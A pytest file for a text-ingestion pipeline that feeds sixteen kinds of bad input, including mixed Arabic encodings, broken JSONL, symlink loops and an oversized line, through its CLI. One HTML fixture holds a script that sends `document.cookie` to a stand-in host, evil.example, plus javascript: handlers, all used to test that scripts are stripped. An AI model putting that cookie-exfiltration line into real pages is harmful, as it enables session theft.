@@ -1,0 +1,274 @@
+"""Bad inputs, end to end through `pipeline ingest`: each one has a stated, tested outcome.
+
+One folder holds sixteen kinds of awkward input side by side with good
+files, as a real scrape would. The command must read every good file, turn
+every bad one into exactly one `error: PATH[:LINE]: reason` line on stderr
+and a 'failed' row in `sources`, exit with 3, and leave a store that passes
+`PRAGMA integrity_check`. Running it again adds nothing and reports the same
+problems. (Stage-level tests of the same readers live in
+tests/test_ingest_inputs.py; here the whole command is the unit.)
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from pipeline.ingest import segment_dump
+from pipeline.records import content_id
+from reliability_support import (
+    ARABIC_ARTICLE,
+    ENGLISH_ARTICLE,
+    SEEDS,
+    bench_module,
+    cannot_read_as_child,
+    child_env,
+    cli,
+    drop_file_read_override,
+    integrity,
+    pipeline_argv,
+    query,
+    stderr_lines,
+    store_snapshot,
+)
+
+INVISIBLE = "\u200f\u200e\u202b\u202c\u200b\u200d\u2066\u2069\ufeff"
+SCRIPT_MARK = "SECRET_JS_PAYLOAD"
+HTML_WITH_SCRIPTS = f"""<!DOCTYPE html><html><head><title>Summit | Example</title>
+<script>var tracker = "{SCRIPT_MARK}"; fetch("https://evil.example/?c=" + document.cookie);</script>
+<style>body {{ background: url("javascript:{SCRIPT_MARK}") }}</style></head>
+<body onload="alert('{SCRIPT_MARK}')"><nav>Home | World</nav><article><h1>Summit in Baghdad</h1>
+<p>Leaders gathered in Baghdad on Saturday for a regional summit aimed at easing tensions across the Middle East.</p>
+<script>document.write("{SCRIPT_MARK}")</script><noscript>{SCRIPT_MARK}</noscript>
+<p onclick="alert('{SCRIPT_MARK}')">The meeting was attended by the presidents of France and Egypt and by the king of Jordan.</p>
+<iframe src="javascript:alert('{SCRIPT_MARK}')"></iframe></article></body></html>"""
+
+
+def arabic_articles() -> list[str]:
+    """Three distinct Arabic articles: the fixture one and two built from the seeds' Arabic pieces."""
+    seed = (SEEDS / "003_d3a64df3fb8f3d34.txt").read_text(encoding="utf-8")
+    arabic = [p for p in segment_dump(seed).pieces if "\u0627" in p.text[:40]]
+    articles = [ARABIC_ARTICLE]
+    for piece in arabic[:2]:
+        articles.append(f"{piece.title}\n\nالأربعاء 18 آب 2021\n\n" + "\n\n".join(piece.paragraphs[:3]) + "\n")
+    return articles
+
+
+def expected_piece_id(article: str) -> str:
+    (piece,) = segment_dump(article).pieces
+    return content_id(piece.text)
+
+
+def build_inputs(root: Path) -> dict[str, Path]:
+    """The awkward folder; returns name → path of every input in it (and the missing one)."""
+    root.mkdir()
+    a, b, c = arabic_articles()
+    mixed = root / "mixed"
+    mixed.mkdir()
+    files: dict[str, Path] = {
+        "utf8": mixed / "a_utf8.txt",
+        "cp1256": mixed / "b_cp1256.txt",
+        "utf16": mixed / "c_utf16.txt",
+        "cp1256_copy_of_utf8": mixed / "d_copy_cp1256.txt",
+        "empty": root / "empty.txt",
+        "binary": root / "photo.txt",
+        "truncated_gz": root / "truncated.txt.gz",
+        "punctuation": root / "punctuation.txt",
+        "digits": root / "digits.txt",
+        "controls": root / "controls.txt",
+        "html_scripts": root / "page.html",
+        "jsonl_broken": root / "pieces.jsonl",
+        "symlink_loop": root / "sub" / "up",
+        "self_link": root / "self.txt",
+        "chrome_only": root / "chrome.txt",
+        "english_crlf_bom": root / "english.txt",
+        "missing": root.parent / "does-not-exist.txt",
+    }
+    files["utf8"].write_text(a, encoding="utf-8")
+    files["cp1256"].write_bytes(b.encode("cp1256"))
+    files["utf16"].write_bytes(c.encode("utf-16"))  # with its byte-order mark
+    files["cp1256_copy_of_utf8"].write_bytes(a.encode("cp1256"))
+    files["empty"].write_bytes(b"")
+    files["binary"].write_bytes(bytes(range(256)) * 16)
+    files["truncated_gz"].write_bytes(gzip.compress(ENGLISH_ARTICLE.encode() * 60)[:-50])
+    files["punctuation"].write_text("!!! ... ؟؟؟ ،،، ---\n\n«» () [] … !!!\n\n*** ### ???\n", encoding="utf-8")
+    files["digits"].write_text("123 456 789\n\n2021 2022 2023 ٠١٢٣٤٥٦٧٨٩\n\n3.14159 2.71828\n", encoding="utf-8")
+    salted = "".join(ch + (INVISIBLE[i % len(INVISIBLE)] if ch == " " and i % 7 == 0 else "") for i, ch in enumerate(a))
+    files["controls"].write_text("\u202b" + salted, encoding="utf-8")
+    files["html_scripts"].write_text(HTML_WITH_SCRIPTS, encoding="utf-8")
+    lines = [json.dumps({"text": f"Article {i} about the summit in Baghdad. It has two sentences.", "lang": "en"}) for i in range(1, 6)]
+    lines[2] = '{"text": "the third line is cut off in the middle'
+    files["jsonl_broken"].write_text("\n".join(lines) + "\n", encoding="utf-8")
+    (root / "sub").mkdir()
+    os.symlink(root, files["symlink_loop"])
+    os.symlink("self.txt", files["self_link"])
+    files["chrome_only"].write_text("Related News\n\nLink to comment\n\nShare on other sites\n", encoding="utf-8")
+    files["english_crlf_bom"].write_bytes(("\ufeff" + ENGLISH_ARTICLE).replace("\n", "\r\n").encode("utf-8"))
+    return files
+
+
+# What each input must come to: (status in `sources`, a phrase of the error or None).
+FAILS = {
+    "empty": "empty file",
+    "binary": "binary file",
+    "truncated_gz": "truncated .gz",
+    "symlink_loop": "symlink loop",
+    "self_link": "symlink loop",
+    "missing": "no such file or directory",
+}
+NO_ARTICLE = {"punctuation", "digits", "chrome_only"}  # read fine, nothing in them is an article: a warning
+
+
+def sources_by_name(db: Path) -> dict[str, tuple[str, str | None, str | None, int | None]]:
+    return {Path(p).name: (s, e, enc, n) for p, s, e, enc, n in query(db, "SELECT path, status, error, encoding, pieces FROM sources")}
+
+
+def test_sixteen_kinds_of_bad_input_in_one_folder(tmp_path):
+    files = build_inputs(tmp_path / "dumps")
+    db = tmp_path / "store.sqlite"
+    proc = cli("ingest", tmp_path / "dumps", files["missing"], "--db", db)
+    assert proc.returncode == 3, proc.stderr
+    errors = stderr_lines(proc)
+    warnings = stderr_lines(proc, "warning: ")
+
+    # every failure is exactly one line naming the file and the reason, and is recorded
+    sources = sources_by_name(db)
+    for key, phrase in FAILS.items():
+        name = files[key].name
+        mine = [line for line in errors if f"{name}:" in line]
+        assert len(mine) == 1 and phrase in mine[0], (key, mine)
+        assert sources[name][0] == "failed" and phrase in sources[name][1]
+    # the broken JSONL line is reported with its number; the other four lines are kept
+    (jsonl_error,) = [line for line in errors if "pieces.jsonl" in line]
+    assert jsonl_error.startswith(f"error: {files['jsonl_broken']}:3: not valid JSON")
+    assert sources["pieces.jsonl"][:2] == ("partial", f"{files['jsonl_broken']}:3: " + jsonl_error.split(":3: ", 1)[1])
+    jsonl_texts = {t for (t,) in query(db, "SELECT text FROM pieces WHERE text LIKE 'Article % about the summit%'")}
+    assert jsonl_texts == {f"Article {i} about the summit in Baghdad. It has two sentences." for i in (1, 2, 4, 5)}
+    assert len(errors) == len(FAILS) + 1
+
+    # text-free files are read, yield no piece, and say so in a warning (not an error)
+    for key in NO_ARTICLE:
+        assert sources[files[key].name][0] == "ingested" and sources[files[key].name][3] == 0
+        assert any(files[key].name in w and "no article found" in w for w in warnings), key
+
+    # mixed encodings in one folder: decoded right (same ids as from UTF-8), the duplicate stored once
+    a, b, c = arabic_articles()
+    assert {sources[files[k].name][2] for k in ("utf8", "cp1256", "utf16", "cp1256_copy_of_utf8")} == {"utf-8", "cp1256", "utf-16"}
+    ids = {pid for (pid,) in query(db, "SELECT id FROM pieces")}
+    assert {expected_piece_id(a), expected_piece_id(b), expected_piece_id(c)} <= ids
+    # invisible direction marks and zero-width characters: the same article (one piece, three
+    # sources: UTF-8, cp1256 and the salted copy), its text kept as read, no letter lost or added
+    linked = {Path(p).name for (p,) in query(
+        db, "SELECT s.path FROM piece_sources ps JOIN sources s ON s.id = ps.source_id WHERE ps.piece_id = ?", (expected_piece_id(a),)
+    )}
+    assert linked == {"a_utf8.txt", "d_copy_cp1256.txt", "controls.txt"}
+    (stored,) = query(db, "SELECT text FROM pieces WHERE id = ?", (expected_piece_id(a),))[0]
+    assert any(ch in stored for ch in INVISIBLE)  # controls.txt is read first (sorted order), kept verbatim
+    assert _letters(stored) == _letters(segment_dump(a).pieces[0].text)
+    assert len(ids) == 3 + 4 + 1 + 1  # three Arabic articles, four JSONL lines, the HTML page, the English dump
+
+    # HTML: the article's text, none of its scripts, handlers or styles
+    (html_text,) = [t for (t,) in query(db, "SELECT text FROM pieces WHERE text LIKE 'Leaders gathered%'")]
+    assert SCRIPT_MARK not in html_text and "<" not in html_text and "alert(" not in html_text
+    assert html_text.endswith("by the king of Jordan.")
+
+    # a UTF-8 BOM and Windows line endings change nothing
+    assert content_id(segment_dump(ENGLISH_ARTICLE).pieces[0].text) in ids
+
+    assert integrity(db) == "ok"
+    # Again: nothing new, the same failures reported, the store unchanged.
+    before = store_snapshot(db)
+    again = cli("ingest", tmp_path / "dumps", files["missing"], "--db", db)
+    assert again.returncode == 3
+    assert store_snapshot(db) == before
+    assert {line.split(": ", 2)[1].split(":")[0] for line in stderr_lines(again)} >= {str(files[k]) for k in FAILS}
+    assert integrity(db) == "ok"
+
+
+def _letters(text: str) -> str:
+    return "".join(ch for ch in text if ch.isalnum())
+
+
+def test_an_unreadable_file_is_one_error_and_the_rest_is_read(tmp_path):
+    """chmod 000. As root the child is started without the capabilities that let root read anything."""
+    folder = tmp_path / "dumps"
+    folder.mkdir()
+    locked = folder / "locked.txt"
+    locked.write_text(ARABIC_ARTICLE, encoding="utf-8")
+    (folder / "open.txt").write_text(ENGLISH_ARTICLE, encoding="utf-8")
+    locked.chmod(0)
+    try:
+        if not cannot_read_as_child(locked):
+            pytest.skip("this environment cannot take away the right to read a mode-000 file (root without CAP_SETPCAP)")
+        db = tmp_path / "store.sqlite"
+        proc = subprocess.run(
+            pipeline_argv("ingest", folder, "--db", db), capture_output=True, text=True, timeout=120,
+            env=child_env(), preexec_fn=drop_file_read_override,
+        )
+    finally:
+        locked.chmod(0o644)
+    assert proc.returncode == 3, proc.stderr
+    assert stderr_lines(proc) == [f"error: {locked}: cannot read: permission denied"]
+    assert sources_by_name(db)["locked.txt"][:2] == ("failed", f"{locked}: cannot read: permission denied")
+    assert query(db, "SELECT COUNT(*) FROM pieces")[0][0] == 1
+    # readable again: the next run picks it up
+    assert cli("ingest", folder, "--db", db).returncode == 0
+    assert query(db, "SELECT COUNT(*) FROM pieces")[0][0] == 2 and integrity(db) == "ok"
+
+
+def test_a_50_mb_single_line_fails_fast_in_little_memory(tmp_path):
+    huge = tmp_path / "one-line.txt"
+    with open(huge, "wb") as handle:
+        for _ in range(50):
+            handle.write("كلمة word ".encode() * 80_000)  # ~1 MB, no newline anywhere
+    assert huge.stat().st_size >= 50_000_000
+    good = tmp_path / "good.txt"
+    good.write_text(ENGLISH_ARTICLE, encoding="utf-8")
+    db = tmp_path / "store.sqlite"
+    run = bench_module().measure("ingest", pipeline_argv("ingest", huge, good, "--db", db), child_env())
+    assert run.exit_code == 3
+    (error,) = [line for line in run.output.splitlines() if line.startswith("error:")]
+    assert error.startswith(f"error: {huge}: ") and "max_line_chars" in error
+    assert run.seconds < 30
+    assert run.peak_rss_mb < 150, "the line must be refused while streaming, not loaded (50 MB as str is 100+ MB)"
+    assert query(db, "SELECT COUNT(*) FROM pieces")[0][0] == 1
+
+
+def test_no_input_at_all_and_only_bad_inputs(tmp_path):
+    db = tmp_path / "store.sqlite"
+    proc = cli("ingest", tmp_path / "nope", tmp_path / "nope.jsonl", "--db", db)
+    assert proc.returncode == 3
+    assert [line.split(": ", 2)[2] for line in stderr_lines(proc)] == ["no such file or directory"] * 2
+    assert query(db, "SELECT COUNT(*) FROM pieces")[0][0] == 0 and integrity(db) == "ok"
+    usage = cli("ingest", "--db", db)  # no INPUT: a usage error, not a crash
+    assert usage.returncode == 2 and "Traceback" not in usage.stderr
+
+
+def test_the_same_folder_through_pipeline_run(tmp_path, tiny_model_dir):
+    """The whole run goes on past the bad files: exit 3, outputs written, every good piece processed."""
+    files = build_inputs(tmp_path / "dumps")
+    db, out = tmp_path / "store.sqlite", tmp_path / "out"
+    proc = cli("run", tmp_path / "dumps", files["missing"], "--db", db, "--out", out, "--model", tiny_model_dir)
+    assert proc.returncode == 3, proc.stderr
+    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
+    assert summary["exit_code"] == 3
+    for key, phrase in FAILS.items():  # each failure is in summary.json too, with its reason
+        assert any(str(files[key]) in m and phrase in m for m in summary["messages"]), key
+    assert any(f"{files['jsonl_broken']}:3: not valid JSON" in m for m in summary["messages"])
+    pieces = [json.loads(line) for line in (out / "pieces.jsonl").read_text(encoding="utf-8").splitlines()]
+    by_lang: dict[str, list[dict]] = {}
+    for piece in pieces:
+        by_lang.setdefault(piece["lang"], []).append(piece)
+    assert len(by_lang["ar"]) == 3 and all(p["status"] == "translated" and p["translation"] for p in by_lang["ar"])
+    assert len(by_lang["en"]) == 4 + 1 + 1 and all(p["status"] == "english" for p in by_lang["en"])
+    assert set(by_lang) == {"ar", "en"}  # punctuation and digits made no piece, nothing was sent to the model for them
+    # invisible controls never reach the model: what it translated has none of them
+    sources = [s for (s,) in query(db, "SELECT source_text FROM translations")]
+    assert sources and not any(ch in s for s in sources for ch in INVISIBLE)
+    assert query(db, "SELECT COUNT(*) FROM segments WHERE translation_key IS NULL AND reason IS NULL")[0][0] == 0
+    assert integrity(db) == "ok"
